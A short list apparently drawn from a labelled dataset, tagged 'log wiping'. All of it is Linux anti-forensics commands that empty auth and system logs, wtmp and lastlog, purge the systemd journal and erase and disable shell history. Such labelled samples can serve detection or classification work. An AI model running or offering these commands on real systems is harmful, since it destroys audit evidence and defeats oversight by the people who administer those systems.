# class: log wiping; style: list
cat /dev/null > /var/log/auth.log
cat /dev/null > /var/log/syslog
> /var/log/wtmp
> /var/log/lastlog
journalctl --rotate && journalctl --vacuum-time=1s
unset HISTFILE; history -c; rm -f ~/.bash_history; ln -sf /dev/null ~/.bash_history
